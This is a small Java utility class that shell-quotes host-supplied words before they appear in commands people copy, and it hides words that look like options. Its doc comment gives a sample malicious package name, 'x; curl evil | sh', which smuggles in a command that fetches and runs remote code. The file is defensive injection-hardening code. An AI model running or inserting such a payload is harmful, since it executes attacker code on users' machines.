package io.oakum.core.why;

import java.util.List;
import java.util.regex.Pattern;

/**
 * Words that hosts made up, within commands that people copy. A host that means ill names a package {@code x; curl evil | sh}: whatever a
 * shell would read as more than a word is quoted, and whatever a program would read as an option is not shown.
 */
final class InCommand {
    private static final Pattern PLAIN = Pattern.compile("[A-Za-z0-9@%+=:,./_\\\\][A-Za-z0-9@%+=:,./_~\\\\-]*");

    private InCommand() {}

    static String word(String word) {
        if (PLAIN.matcher(word).matches()) {
            return word;
        }
        return word.isEmpty() || word.startsWith("-") ? "NAME" : "'" + word.replace("'", "'\\''") + "'";
    }

    static String words(List<String> words) {
        return String.join(" ", words.stream().map(InCommand::word).toList());
    }
}
